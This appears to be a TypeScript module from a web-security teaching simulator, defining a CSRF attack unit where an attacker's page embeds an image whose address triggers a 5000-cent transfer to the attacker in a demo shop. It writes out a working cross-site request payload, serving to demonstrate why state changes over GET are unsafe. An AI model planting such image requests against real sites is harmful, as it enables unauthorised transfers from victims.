/** An image on a page of another site, whose address is a transfer. It fails where safe methods change nothing. */
import { document, rfc } from '#sources/sources';
import { ORIGIN } from '../origins';
import { ATTACKER_NAME } from '../shop/shop';
import { THIRD_PARTY_COOKIES } from '../attacker/assumed';
import type { AttackUnit } from '../attacker/attack';

export default {
  order: 21,
  group: 'requests from elsewhere',
  label: 'Image that transfers',
  also: ['CSRF', 'XSRF'],
  says: 'The victim opens the attacker’s page, with an image on it. The image’s address makes a transfer, if the shop allows that by GET and the browser adds the cookies.',
  grants: ['a page that the victim opens'],
  sources: [document('owasp-csrf'), rfc(9110, '9.2.1')],
  scene: ['log-in', 'read-orders'],
  assumes: [THIRD_PARTY_COOKIES],
  presupposes: { crossSite: 'yes', defences: ['secure'] },
  play: async (hands) => {
    const page = await hands.ownPage();
    await page.image(`${ORIGIN}/transfer?to=${ATTACKER_NAME}&cents=5000`);
  },
} satisfies AttackUnit;
